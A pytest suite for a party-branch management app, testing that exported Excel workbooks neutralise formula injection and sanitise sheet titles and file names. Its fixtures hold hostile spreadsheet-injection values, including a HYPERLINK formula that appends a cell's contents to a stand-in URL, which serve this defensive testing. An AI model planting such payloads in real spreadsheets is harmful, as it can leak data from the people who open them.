"""User text is text in every workbook; sheet titles and file names survive any unit name."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from branch_desk.domain.archive import safe_file_name, safe_name
from branch_desk.domain.members import RosterStatus
from branch_desk.exports.xlsx_safe import safe_sheet_title, save_workbook
from branch_desk.paths import AppPaths
from branch_desk.services.app import BranchDesk
from branch_desk.services.demo.branch import fill_demo
from branch_desk.storage.models import Candidate, Member, OrgUnit
from tests.conftest import FIXED_NOW

YEAR = FIXED_NOW.year
EVIL_NAME = '=HYPERLINK("http://x?"&E45,"a")'
EVIL_UNIT = "+1+1"
EVIL_BRANCH = "=第一/支部\\[测试]:*?党支部名称特别长超过三十一个字的支部"
EVIL_CANDIDATE = "@SUM(A1:A9)"
FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BranchDesk]:
    """The demo branch with formula-like text in a name, a 工作单位 and the branch name."""
    folder = tmp_path_factory.mktemp("xlsx-safe")
    desk = BranchDesk.open(AppPaths.resolve(folder / "data"), automatic_backups=False)
    desk.db.clock = lambda: FIXED_NOW
    fill_demo(desk, seed=1)
    unit = desk.org.resolve()
    active = [m for m in desk.roster.list(unit.id) if m.roster_status is RosterStatus.ACTIVE]
    with desk.db.session() as s:
        s.get(Member, active[0].id).name = EVIL_NAME
        s.get(Member, active[1].id).work_unit = EVIL_UNIT
        s.get(OrgUnit, unit.id).name = EVIL_BRANCH
        first = s.scalars(select(Candidate).where(Candidate.unit_id == unit.id)).first()
        first.name = EVIL_CANDIDATE
    yield desk
    desk.close()


def _exports(desk: BranchDesk, out: Path) -> list[Path]:
    unit = desk.org.resolve()
    paths = {
        "roster": out / "roster.xlsx",
        "ledger": out / "ledger.xlsx",
        "assessment": out / "assessment.xlsx",
        "pipeline": out / "pipeline.xlsx",
    }
    desk.roster_io.export_roster(unit.id, paths["roster"])
    desk.dues_io.export_ledger(unit.id, YEAR, paths["ledger"])
    desk.dues_io.export_assessment(unit.id, YEAR, paths["assessment"])
    desk.development_io.export_pipeline(unit.id, YEAR, paths["pipeline"])
    desk.archive.build(unit.id, YEAR, out / "pack")
    return [*paths.values(), *sorted((out / "pack").rglob("*.xlsx"))]


@pytest.fixture(scope="module")
def workbooks(hostile: BranchDesk, tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    return _exports(hostile, tmp_path_factory.mktemp("xlsx-out"))


def _cells(path: Path) -> list[object]:
    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_every_exported_workbook_is_free_of_formulas(workbooks: list[Path]) -> None:
    assert len(workbooks) >= 7  # 4 exports + 目录, 转接, 学时 (+ the pack's own copies)
    for path in workbooks:
        with zipfile.ZipFile(path) as z:
            for name in z.namelist():
                assert not FORMULA.search(z.read(name)), f"{path.name}:{name}"
        for cell in _cells(path):
            assert cell.data_type != "f", f"{path.name}!{cell.coordinate}"


@pytest.mark.parametrize(
    ("file", "text"),
    [
        ("roster.xlsx", EVIL_NAME),
        ("roster.xlsx", EVIL_UNIT),
        ("ledger.xlsx", EVIL_NAME),
        ("pipeline.xlsx", EVIL_CANDIDATE),
    ],
)
def test_formula_like_text_reads_back_as_the_same_text(
    workbooks: list[Path], file: str, text: str
) -> None:
    path = next(p for p in workbooks if p.name == file)
    found = [c for c in _cells(path) if c.value == text]
    assert found, f"{text} not in {file}"
    for cell in found:
        assert cell.data_type == "s"
        assert cell.quotePrefix  # Excel keeps it as text even when the cell is edited


def test_branch_name_starting_with_equals_is_a_text_title(workbooks: list[Path]) -> None:
    for path in workbooks:
        book = load_workbook(path)
        titles = [
            c
            for sheet in book.worksheets
            for row in sheet.iter_rows(max_row=2)
            for c in row
            if isinstance(c.value, str) and EVIL_BRANCH in c.value
        ]
        assert titles, path.name
        for cell in titles:
            assert cell.data_type == "s"
        for sheet in book.worksheets:
            assert len(sheet.title) <= 31
            assert not set(sheet.title) & set("/\\?*[]:")


def test_archive_tables_titled_after_a_hostile_branch_name(workbooks: list[Path]) -> None:
    contents = next(p for p in workbooks if p.name == "00_目录.xlsx")
    title = load_workbook(contents).active.title
    assert title == safe_sheet_title(f"{EVIL_BRANCH}{YEAR}年度党建工作台账目录")
    assert title.startswith("=第一_支部_")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("第一/支部", "第一_支部"),
        ("a\\b?c*d[e]f:g", "a_b_c_d_e_f_g"),
        ("'引号'", "引号"),
        ("", "表"),
        ("History", "表_History"),
        ("长" * 40, "长" * 31),
    ],
)
def test_safe_sheet_title(text: str, expected: str) -> None:
    assert safe_sheet_title(text) == expected


def test_safe_sheet_title_is_unique_and_still_short() -> None:
    assert safe_sheet_title("名册", ["名册", "x"]) == "名册(2)"
    assert safe_sheet_title("名册", ["名册", "名册(2)"]) == "名册(3)"
    long = safe_sheet_title("长" * 40, ["长" * 31])
    assert long == "长" * 28 + "(2)" and len(long) == 31


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("第一/支部", "第一_支部"),
        ('a\\b:c*d?e"f<g>h|i', "a_b_c_d_e_f_g_h_i"),
        ("CON", "_CON"),
        ("nul.txt", "_nul.txt"),
        ("..", "未命名"),
        ("第一支部 \t", "第一支部"),
    ],
)
def test_safe_name_for_files(text: str, expected: str) -> None:
    assert safe_name(text) == expected


def test_suggested_file_names_survive_any_branch_name() -> None:
    name = safe_file_name(f"党员名册_{EVIL_BRANCH}_20261120", ".xlsx")
    assert name.endswith(".xlsx") and not set(name) & set('/\\?*:"<>|')


def test_control_characters_and_huge_text_do_not_stop_a_save(tmp_path: Path) -> None:
    book = Workbook()
    from branch_desk.exports.xlsx_safe import put

    put(book.active, 1, 1, "备注\x01\x02尾")
    put(book.active, 2, 1, "-" + "x" * 40000)
    path = tmp_path / "a.xlsx"
    save_workbook(book, path)
    sheet = load_workbook(path).active
    assert sheet["A1"].value == "备注尾"
    assert sheet["A2"].data_type == "s" and len(sheet["A2"].value) == 32767
